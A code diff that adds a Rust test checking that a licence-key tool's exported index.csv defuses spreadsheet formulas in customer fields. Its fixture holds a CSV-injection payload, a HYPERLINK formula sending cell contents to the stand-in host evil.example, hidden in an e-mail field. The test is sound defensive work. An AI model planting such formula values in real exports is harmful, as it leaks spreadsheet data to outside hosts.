@@ -400,3 +400,47 @@ fn keys_inspect_finds_an_imported_key_however_it_is_typed() {
     );
     assert_ne!(o.status.code(), Some(0));
 }
+
+/// `index.csv` holds customers' e-mail addresses: one that a spreadsheet would run as a
+/// formula is written defused (prefixed with `'`) and quoted, through the one CSV writer.
+#[test]
+fn index_csv_defuses_formulas_in_customer_fields() {
+    let v = vendor();
+    let d = v.path();
+    let evil = "=HYPERLINK(\"http://evil.example/\"&A1)@x.example";
+    let csv = format!(
+        "\"Key ID\", \"Product Key\", \"Email\", \"Status\", \"Expires On\", \"Total Activations\"\n\
+         \"1\", \"8F3A1C-6B2D9E-04C7F1-A95B3D\", \"{}\", \"Active\", \"12/31/2099\", \"3\"\n\
+         \"2\", \"1B7E44-90AC3F-D2E815-6C0B7A\", \"+bob@example.org\", \"Active\", \"\", \"1\"\n",
+        evil.replace('"', "\"\"")
+    );
+    std::fs::write(d.join("export.csv"), csv).unwrap();
+    ok(&airseal(
+        d,
+        &[
+            "import",
+            "--from",
+            "cryptlex-v2",
+            "export.csv",
+            "--product",
+            "photo-pro",
+            "--template",
+            "pro",
+        ],
+    ));
+    ok(&airseal(
+        d,
+        &["issue", "--batch", "--from-import", "1", "--out-dir", "lic"],
+    ));
+    let index = std::fs::read_to_string(d.join("lic/index.csv")).unwrap();
+    assert!(
+        index.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)@x.example\",issued"),
+        "{index}"
+    );
+    assert!(index.contains(",'+bob@example.org,issued"), "{index}");
+    for line in index.lines() {
+        for field in line.split(',') {
+            assert!(!field.starts_with(['=', '+', '@']), "{field:?} in {index}");
+        }
+    }
+}
